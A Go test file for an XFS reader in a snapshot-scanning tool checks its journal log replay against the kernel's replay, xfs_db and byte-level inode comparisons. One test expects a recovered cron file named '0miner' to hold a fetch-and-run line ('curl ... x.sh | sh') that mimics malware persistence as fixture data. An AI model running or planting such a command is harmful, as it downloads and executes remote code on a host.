package xfs

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/snapscan/snapscan/fsread"
)

// needXFSKernel skips unless this process can loop-mount XFS.
func needXFSKernel(t testing.TB) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: the dirty images are made by the kernel through a loop mount")
	}
	for _, tool := range []string{"mkfs.xfs", "xfs_io", "mount"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("needs %s", tool)
		}
	}
	b, _ := os.ReadFile("/proc/filesystems")
	if !bytes.Contains(b, []byte("\txfs\n")) {
		exec.Command("modprobe", "xfs").Run()
		if b, _ = os.ReadFile("/proc/filesystems"); !bytes.Contains(b, []byte("\txfs\n")) {
			t.Skip("the kernel has no XFS (not in /proc/filesystems, modprobe xfs failed)")
		}
	}
}

var (
	dirtyMu   sync.Mutex
	dirtyImgs = map[string][]byte{}
)

// dirtyImage runs testdata/images/make-dirty-xfs.sh once per process and
// kind and returns the image bytes (32 MiB, mostly zeros) and a path to a
// fresh copy in t's temp directory.
func dirtyImage(t testing.TB, kind string) ([]byte, string) {
	t.Helper()
	needXFSKernel(t)
	img, err := dirtyImageBytes(kind)
	if errors.Is(err, errNoKernel) {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	cp := filepath.Join(t.TempDir(), "copy-"+kind+".img")
	if err := os.WriteFile(cp, img, 0o600); err != nil {
		t.Fatal(err)
	}
	return img, cp
}

var errNoKernel = errors.New("kernel cannot make a dirty XFS image")

func dirtyImageBytes(kind string) ([]byte, error) {
	dirtyMu.Lock()
	defer dirtyMu.Unlock()
	if img, ok := dirtyImgs[kind]; ok {
		return img, nil
	}
	dir, err := os.MkdirTemp("", "snapscan-xfs-dirty-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	p := filepath.Join(dir, "dirty-"+kind+".img")
	root, err := repoRoot()
	if err != nil {
		return nil, err
	}
	if out, err := exec.Command("bash", filepath.Join(root, "testdata/images/make-dirty-xfs.sh"), p, kind).CombinedOutput(); err != nil {
		if strings.Contains(string(out), "mount") || strings.Contains(string(out), "wrong fs type") {
			return nil, fmt.Errorf("%w (%s): %s", errNoKernel, kind, out)
		}
		return nil, fmt.Errorf("make-dirty-xfs.sh %s: %v\n%s", kind, err, out)
	}
	img, err := os.ReadFile(p)
	if err == nil {
		dirtyImgs[kind] = img
	}
	return img, err
}

// repoRoot is the module root, found from the package directory.
func repoRoot() (string, error) {
	d, err := os.Getwd()
	for err == nil {
		if _, e := os.Stat(filepath.Join(d, "go.mod")); e == nil {
			return d, nil
		}
		if filepath.Dir(d) == d {
			return "", errors.New("go.mod not found")
		}
		d = filepath.Dir(d)
	}
	return "", err
}

// canMakeDirty says whether dirty images can be made here, without
// skipping (the fuzz target only adds real seeds then).
func canMakeDirty() bool {
	if os.Geteuid() != 0 {
		return false
	}
	for _, tool := range []string{"mkfs.xfs", "xfs_io", "mount"} {
		if _, err := exec.LookPath(tool); err != nil {
			return false
		}
	}
	b, _ := os.ReadFile("/proc/filesystems")
	return bytes.Contains(b, []byte("\txfs\n"))
}

// TestLogReplayKernel is the oracle for replay: the kernel mounts a copy
// of the dirty image (replaying its log), and our in-memory replay must
// show the same tree -- names, types, modes, owners, sizes, times, link
// targets, content hashes -- while the on-disk view lacks the files that
// live only in the log, and the image is not written.
func TestLogReplayKernel(t *testing.T) {
	for _, kind := range []string{"v5", "live", "bigrec", "wrap", "v4"} {
		t.Run(kind, func(t *testing.T) {
			img, cp := dirtyImage(t, kind)
			before := sha256.Sum256(img)
			r := bytes.NewReader(img)

			disk, err := NewOpts(r, int64(len(img)), "disk", fsread.OpenOptions{NoReplay: true})
			if err != nil {
				t.Fatal(err)
			}
			if rec := fsread.RecoveryOf(disk); rec.State != fsread.RecoveryDirty || rec.Reason != "log replay disabled: on-disk view" {
				t.Errorf("on-disk view: recovery %+v", rec)
			}
			if _, err := disk.Stat("etc/cron.d/0miner"); err == nil {
				t.Fatal("the on-disk view already holds etc/cron.d/0miner: the image does not exercise replay")
			}

			fsys, err := New(r, int64(len(img)), "replayed")
			if err != nil {
				t.Fatal(err)
			}
			rec := fsread.RecoveryOf(fsys)
			t.Logf("%s: %s; warnings %q", kind, rec, rec.Warnings)
			if rec.State != fsread.RecoveryReplayed || rec.Transactions < 1 || rec.Blocks < 1 {
				t.Errorf("recovery %+v, want replayed", rec)
			}
			if kind == "bigrec" {
				big := 0
				for _, h := range openLog(t, img).recs {
					if h.length > cycleDataSize && h.hblks > 1 {
						big++
					}
				}
				if big == 0 {
					t.Error("bigrec image has no record with extended headers")
				}
			}
			if kind == "wrap" {
				v, err := open(r, int64(len(img)))
				if err != nil {
					t.Fatal(err)
				}
				l, err := v.logDev()
				if err != nil {
					t.Fatal(err)
				}
				st, err := l.findTail()
				switch {
				case err != nil:
					t.Errorf("wrap image: %v", err)
				case st.head >= st.tail:
					// The script stops churning once the pending log straddles
					// the end, but the kernel may write back and move the tail
					// before the shutdown: then this run compares an unwrapped
					// log with the kernel's replay, which is still checked below.
					t.Logf("wrap image: head %d, tail %d: the kernel moved the tail before the shutdown, the pending log does not cross the end this time", st.head, st.tail)
				}
			}
			// The B-tree root of a file fragmented after the last
			// checkpoint exists only as a logged root (XFS_ILOG_DBROOT).
			if fi, err := fsys.Lstat("var/log/fragmented"); err != nil {
				t.Error(err)
			} else if v, err := open(r, int64(len(img))); err != nil {
				t.Error(err)
			} else if in, err := v.inode(fsread.MetaOf(fi).Inode); err != nil || in.format != fmtBtree {
				t.Errorf("var/log/fragmented: replayed data fork not a B-tree (%v)", err)
			}
			got, err := fs.ReadFile(fsys, "etc/cron.d/0miner")
			if err != nil || !bytes.Contains(got, []byte("curl -s http://198.51.100.7/x.sh | sh")) {
				t.Errorf("journal-only cron file: %q, %v", got, err)
			}

			mnt, umount := mount(t, cp, "loop,noatime") // rw: recovery writes; noatime: reading must not change what we compare
			n := compareKernel(t, fsys, mnt)
			t.Logf("%s: %d entries compared with the kernel's replay", kind, n)
			if n < 200 {
				t.Errorf("only %d entries compared", n)
			}
			umount()
			compareInodes(t, img, cp)
			if out, err := exec.Command("xfs_repair", "-n", cp).CombinedOutput(); err != nil {
				t.Errorf("xfs_repair -n after the kernel's replay: %v\n%s", err, out)
			}
			if sha256.Sum256(img) != before {
				t.Error("replay changed the image bytes")
			}
		})
	}
}

// TestLogReplayXFSDB checks the replayed inodes against xfs_db reading the
// kernel-recovered copy: the inode core fields recovery rewrites (LSN
// excepted, which the kernel stamps when it writes back).
func TestLogReplayXFSDB(t *testing.T) {
	img, cp := dirtyImage(t, "v5")
	mnt, umount := mount(t, cp, "loop")
	umount()
	_ = mnt
	fsys, err := New(bytes.NewReader(img), int64(len(img)), "replayed")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"etc/cron.d/0miner", "etc/passwd", "var/spool/job-200", "root/link", "var/log/big.log"} {
		fi, err := fsys.Lstat(p)
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		m := fsread.MetaOf(fi)
		out, err := exec.Command("xfs_db", "-r", "-c", "path /"+p, "-c", "print core.mode core.size core.nlinkv2 core.uid core.gid core.nextents", cp).CombinedOutput()
		if err != nil {
			t.Fatalf("xfs_db %s: %v\n%s", p, err, out)
		}
		want := fmt.Sprintf("core.size = %d\ncore.nlinkv2 = %d\ncore.uid = %d\ncore.gid = %d\n", m.Size, m.Nlink, m.UID, m.GID)
		if !strings.Contains(string(out), want) {
			t.Errorf("%s: ours\n%s xfs_db\n%s", p, want, out)
		}
	}
}

// TestLogReplayReadsBounded reads every file of the replayed image in
// small pieces at odd offsets: the overlay must patch partial blocks the
// same as whole ones.
func TestLogReplayReadsBounded(t *testing.T) {
	img, _ := dirtyImage(t, "v5")
	fsys, err := New(bytes.NewReader(img), int64(len(img)), "replayed")
	if err != nil {
		t.Fatal(err)
	}
	err = fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		whole, err := fs.ReadFile(fsys, p)
		if err != nil {
			return err
		}
		f, err := fsys.Open(p)
		if err != nil {
			return err
		}
		defer f.Close()
		ra := f.(io.ReaderAt)
		var pieces []byte
		buf := make([]byte, 777)
		for off := int64(0); ; {
			n, err := ra.ReadAt(buf, off)
			pieces = append(pieces, buf[:n]...)
			off += int64(n)
			if err == io.EOF {
				break
			}
			if err != nil {
				return err
			}
		}
		if !bytes.Equal(whole, pieces) {
			t.Errorf("%s: piecewise read differs", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestLogReencode: the kernel's log, read into operations and written back
// by the test's log builder (new positions, LSNs and CRCs), replays to the
// same tree: the builder the fuzz target relies on writes logs the way the
// kernel does, and the parser reads both alike.
func TestLogReencode(t *testing.T) {
	raw, _ := dirtyImage(t, "v5")
	sp, err := sparseOf(raw)
	if err != nil {
		t.Fatal(err)
	}
	v, err := open(sp, sp.size)
	if err != nil {
		t.Fatal(err)
	}
	l, _ := v.logDev()
	st, _ := l.findTail()
	// At the same place: the LSNs are what v5 replay compares with the
	// LSNs the blocks on disk carry.
	again := withLog(t, sp, buildLogAt(l.bbs, st.tail, v.sb.uuid, realOps(t, raw)))
	v2, err := open(again, again.size)
	if err != nil {
		t.Fatal(err)
	}
	if v.recovery.Transactions == 0 || v.recovery.Transactions != v2.recovery.Transactions || v.recovery.Blocks != v2.recovery.Blocks {
		t.Errorf("kernel log %s, re-encoded %s", v.recovery, v2.recovery)
	}
	if a, b := listing(t, v, 400), listing(t, v2, 400); a != b {
		t.Errorf("re-encoded log replays to another tree")
	}
}

// compareInodes checks every inode our replay shows byte for byte against
// the kernel-recovered copy (after its unmount wrote them back): core,
// data and attribute forks, but for the LSN and CRC the kernel stamps
// when it writes an inode.
func compareInodes(t *testing.T, img []byte, kernelImg string) {
	t.Helper()
	k, err := os.ReadFile(kernelImg)
	if err != nil {
		t.Fatal(err)
	}
	v, err := open(bytes.NewReader(img), int64(len(img)))
	if err != nil {
		t.Fatal(err)
	}
	n, diff := 0, 0
	walkBackend(v, 100000, func(ino uint64, _ fs.FileMode) {
		off, err := v.inodeOffset(ino)
		if err != nil {
			t.Error(err)
			return
		}
		ours := make([]byte, v.sb.inodeSize)
		if err := v.readFull(ours, off); err != nil {
			t.Error(err)
			return
		}
		theirs := k[off : off+int64(len(ours))]
		n++
		for _, r := range [][2]int{{0, 0x64}, {0x68, 0x70}, {0x78, len(ours)}} {
			if !bytes.Equal(ours[r[0]:r[1]], theirs[r[0]:r[1]]) {
				if diff++; diff <= 5 {
					t.Errorf("inode %d differs from the kernel's in bytes %#x-%#x:\n ours   %x\n kernel %x", ino, r[0], r[1], ours[r[0]:r[1]], theirs[r[0]:r[1]])
				}
				break
			}
		}
	})
	t.Logf("%d inodes compared byte for byte with the kernel's, %d differ", n, diff)

	// Directory blocks (data, leaf, node, free index) likewise, but for the
	// CRC and LSN fields of their v5 headers.
	blocks, bdiff := 0, 0
	walkBackend(v, 100000, func(ino uint64, m fs.FileMode) {
		in, err := v.inode(ino)
		if !m.IsDir() || err != nil || (in.format != fmtExtents && in.format != fmtBtree) {
			return
		}
		ext, err := v.extents(in)
		if err != nil {
			t.Error(err)
			return
		}
		for _, e := range ext {
			for b := e.blk; b < e.blk+e.n; b++ {
				ours := make([]byte, v.bs)
				if err := v.readFull(ours, int64(b)*v.bs); err != nil {
					t.Error(err)
					return
				}
				theirs := slices.Clone(k[int64(b)*v.bs : int64(b+1)*v.bs])
				for _, x := range [][]byte{ours, theirs} {
					switch {
					case be32(x, 0) == dirBlockMagicV5 || be32(x, 0) == dirDataMagicV5 || be32(x, 0) == 0x58444633:
						clear(x[4:8])
						clear(x[16:24])
					case be16(x, 8) == 0x3df1 || be16(x, 8) == 0x3dff || be16(x, 8) == 0x3ebe:
						clear(x[12:16])
						clear(x[24:32])
					}
				}
				blocks++
				if !bytes.Equal(ours, theirs) {
					if bdiff++; bdiff <= 3 {
						t.Errorf("directory inode %d block %d differs from the kernel's", ino, b)
					}
				}
			}
		}
	})
	t.Logf("%d directory blocks compared with the kernel's, %d differ", blocks, bdiff)
}
